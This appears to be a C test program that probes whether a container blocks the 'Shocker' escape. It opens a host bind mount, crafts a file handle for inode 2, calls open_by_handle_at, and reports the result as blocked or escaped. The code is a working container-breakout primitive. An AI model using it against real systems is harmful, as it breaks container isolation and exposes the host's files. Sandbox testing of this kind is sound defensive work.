// "Shocker": open_by_handle_at with a guessed handle (inode 2, the root of
// an ext4 file system) on a file bind-mounted from the host reaches any
// file of that file system. Needs CAP_DAC_READ_SEARCH.
#define _GNU_SOURCE
#include "report.h"
#include <fcntl.h>
#include <unistd.h>

int main(int argc, char **argv) {
	const char *on = argc > 1 ? argv[1] : "/etc/hostname";
	int mfd = open(on, O_RDONLY);
	if (mfd < 0) blocked("open the host bind mount", errno);
	struct {
		struct file_handle h;
		unsigned char bytes[8];
	} fh = {.h = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2, 0, 0, 0, 0, 0, 0, 0}};
	int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
	if (fd >= 0) escaped("open_by_handle_at opened the root directory of the host's file system");
	// EPERM is the capability check; ESTALE or EINVAL would mean the kernel tried the handle.
	if (errno != EPERM) escaped("open_by_handle_at passed the CAP_DAC_READ_SEARCH check");
	blocked("open_by_handle_at", errno);
}
